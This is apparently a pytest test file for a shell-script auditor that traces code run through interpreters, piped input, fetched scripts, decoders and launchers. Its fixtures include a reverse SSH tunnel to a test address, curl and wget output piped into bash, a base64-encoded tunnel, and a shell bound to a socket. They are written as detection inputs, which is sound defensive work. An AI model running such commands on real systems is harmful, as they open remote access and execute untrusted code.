"""Interpreters: code in arguments, in files that the script made, on standard input; and what cannot be known."""

from __future__ import annotations

import pytest

from auditor.model.word import Source
from auditor.read.values import Known, unknown
from tests.read.launch.stage import Play

TUNNEL = "ssh -R 7001:h:22 ops@203.0.113.9"
URL = "https://dl.example/i.sh"


@pytest.mark.parametrize("shell", ["sh", "bash", "dash", "zsh", "ksh", "/bin/sh", "/usr/bin/env bash", "busybox sh"])
@pytest.mark.parametrize("options", ["-c", "-lc", "-x -e -c", "-o pipefail -c", "--norc -ec", "+x -c"])
def test_code_of_a_shell_is_a_unit(play: Play, shell: str, options: str) -> None:
    """`sh -c CODE` reads the code, however the options are bundled, and the shell itself is no effect."""
    told = play(f"{shell} {options} '{TUNNEL}' name arg")
    assert told.lines == (TUNNEL,)
    assert [unit[0] for unit in told.units] == ["bash"]


@pytest.mark.parametrize("run", ["bash", "sh -s", "sh -s -- a b", "bash /dev/stdin", "sudo bash", "bash -"])
def test_a_shell_reads_its_standard_input(play: Play, run: str) -> None:
    """A known standard input is code."""
    assert TUNNEL in play(f"echo '{TUNNEL}' | {run}")


@pytest.mark.parametrize("fetch", [f"curl -fsSL {URL}", f"wget -qO- {URL}", f"wget -O - {URL}", f"curl {URL} -o -"])
@pytest.mark.parametrize(
    "run", [("bash", "bash"), ("sudo -E sh -s -- -y", "bash"), ("python3 -", "python"), ("perl", "perl")]
)
def test_fetched_code_on_standard_input(play: Play, fetch: str, run: tuple[str, str]) -> None:
    """Whatever fetches and whatever runs, it is one effect with the address."""
    told = play(f"{fetch} | {run[0]}")
    assert f"code.fetch {URL} {run[1]}" in told
    assert f"http.request GET {URL}" in told


def test_fetched_code_through_filters_stays_fetched(play: Play) -> None:
    """tee, sed, base64 and gunzip between do not lose the address."""
    told = play(f"curl -s {URL} | tee /tmp/l | sed s/a/b/ | base64 -d | gunzip | bash")
    assert f"code.fetch {URL} bash" in told


def test_code_of_an_undone_decoder_is_opaque(play: Play) -> None:
    """A blob that is out of reach and decoded is of a decoder; the rule sees that."""
    assert "code.load bash decoder" in play("base64 -d blob.b64 | bash")
    assert "code.load bash decoder" in play("cat x.enc | openssl enc -d -aes-256-cbc -k p | sh")


def test_decoded_code_is_read_and_its_layers_are_counted(play: Play) -> None:
    """Two layers of base64 come off, and say so."""
    told = play("echo YzNOb0lDMVNJREU2YURveUlIaEFlUT09 | base64 -d | base64 --decode | sh")
    assert "ssh -R 1:h:2 x@y" in told
    assert "hiding.decoded bash 2" in told


def test_code_from_an_argument_is_listed(play: Play) -> None:
    """A command that comes from a parameter is listed, not opaque."""
    told = play('bash -c "$(cat)"', {})
    assert not told.gaps
    told = play("bash run.sh")
    assert told.lines == ("code.run absent run.sh", "bash run.sh")
    assert play("python3 -u train.py --lr 1").lines == ("code.run absent train.py", "python -u train.py --lr 1")


@pytest.mark.parametrize(
    "line", ["bash a.sh", "sh ./a.sh 1 2", "./a.sh", "sudo -u x ./a.sh", "env bash a.sh", "bash -x a.sh"]
)
def test_a_written_script_is_read(play: Play, line: str) -> None:
    """Write-then-run is followed, by interpreter or by name."""
    assert TUNNEL in play(line, {"a.sh": f"#!/bin/sh\n{TUNNEL}\n"})


def test_the_shebang_decides_what_reads_a_program(play: Play) -> None:
    """A program's first line names its language; without one the shell reads it."""
    files = {
        "a": "#!/usr/bin/env python3\nimport os\n",
        "b": TUNNEL,
        "c": "#!/usr/bin/env -S node\nx()",
        "d.py": "print(1)",
    }
    told = play("./a\n./b\n./c\n./d.py", files)
    assert [unit[0] for unit in told.units] == ["python", "bash", "javascript", "python"]


def test_a_program_in_another_language_is_a_gap(play: Play) -> None:
    """Code that we hold and cannot read is never silent."""
    assert play("./x", {"x": "#!/usr/bin/tclsh\nexec ssh"}).gaps == ("no reader for this language: other",)
    assert play("go run main.go", {"main.go": "package main"}).gaps == ("no reader for this language: other",)
    assert play("gcc -o a a.c\n./a", {"a.c": "#include <stdio.h>\n"}).gaps == ("no reader for this language: other",)
    assert play("./x", {"x": Known(b"\x7fELF\x02")}).gaps == ("not text: an executable that the script makes and runs",)


def test_a_module_that_the_script_wrote_is_read(play: Play) -> None:
    """`python -m NAME` finds NAME.py and NAME/__main__.py; another module is an effect only."""
    assert play("python3 -m tool.x", {"tool/x.py": "import os"}).units[0][0] == "python"
    assert play("python3 -m pkg", {"pkg/__main__.py": "import os"}).units[0][0] == "python"
    assert play("python3 -m http.server 80").lines == ("python -m http.server 80",)


@pytest.mark.parametrize(
    "line",
    ["torchrun --nproc_per_node 8 t.py", "accelerate launch --num_processes 2 t.py", "deepspeed t.py", "python -m cProfile t.py",  # noqa: E501
     "python -m torch.distributed.run --nproc_per_node=2 t.py", "uv run t.py", "coverage run -a t.py", "pypy3 t.py"],
)  # fmt: skip
def test_launchers_of_python_files(play: Play, line: str) -> None:
    """Launchers that take a script read it where it is in reach."""
    assert play(line, {"t.py": "import os"}).units[0][0] == "python"
    assert "code.run absent t.py" in play(line)


@pytest.mark.parametrize(
    ("line", "run"),
    [
        ("uv run -m spacy download en", "python -m spacy download en"),
        ("uv run --with torch -p 3.12 train.py -x", "python train.py -x"),
        ("uv run -s tool", "python tool"),
        ("uv run pytest -q", "pytest -q"),
        ("uv tool run x.py", "x.py"),
    ],
)
def test_uv_runs_scripts_modules_and_programs(play: Play, line: str, run: str) -> None:
    """What `uv run` is given decides whether Python runs it."""
    assert run in play(line).lines


def test_uv_runs_a_script_at_an_address(play: Play) -> None:
    """A script that `uv run` fetches is fetched code."""
    assert "code.fetch https://dl.example/x.py python" in play("uv run https://dl.example/x.py")


def test_a_shell_tied_to_a_socket_is_told(play: Play) -> None:
    """Where the context has a socket, an interactive shell is one for somebody else."""
    from auditor.model.place import START, Place
    from auditor.model.unit import Language, Script
    from auditor.read.evaluation import Context, Evaluation

    evaluation = Evaluation(Script.of("", Language.BASH))
    context = Context(place=Place(0, START), socket=(Known("203.0.113.5"), Known("4444")))
    evaluation.launch([Known("/bin/sh"), Known("-i")], context)
    lines = [" ".join(map(str, effect.words)) for effect in evaluation.read_script().effects]
    assert lines == ["process.stdio socket 203.0.113.5 4444", "sh -i"]


def test_a_script_that_runs_itself_ends(play: Play) -> None:
    """Recursion is read once per way of calling it."""
    told = play("sh a.sh", {"a.sh": f"sh a.sh\nsh b.sh\n{TUNNEL}", "b.sh": "sh a.sh"})
    assert TUNNEL in told
    assert not told.gaps
    assert len(told.units) == 2


def test_unknown_program_words(play: Play) -> None:
    """A command of unknown name is listed with its arguments; one from the network is opaque."""
    from auditor.model.place import START, Place
    from auditor.model.unit import Language, Script
    from auditor.read.evaluation import Context, Evaluation

    evaluation = Evaluation(Script.of("", Language.BASH))
    context = Context(place=Place(0, START))
    evaluation.launch([unknown(Source.ENVIRONMENT, 1), Known("-R"), Known("1:h:2")], context)
    evaluation.launch([unknown(Source.NETWORK, 2), Known("x")], context)
    lines = [" ".join(map(str, effect.words)) for effect in evaluation.read_script().effects]
    assert lines == ["%{environment_1} -R 1:h:2", "code.load bash network", "%{network_2} x"]


@pytest.mark.parametrize("run", ["tclsh", "octave", "guile", "julia", "Rscript -", "groovy", "pwsh -Command -"])
def test_languages_without_a_reader_on_standard_input(play: Play, run: str) -> None:
    """Code that names a way out is a gap, or what it runs; code that names none is neither; data is no code."""
    told = play(f"""echo 'system("{TUNNEL}")' | {run}""")
    assert told.gaps or TUNNEL in told
    assert not play(f"echo 'x = 1 + 2' | {run}").gaps
    assert not play("cat data | julia -e 'println(1)'").gaps
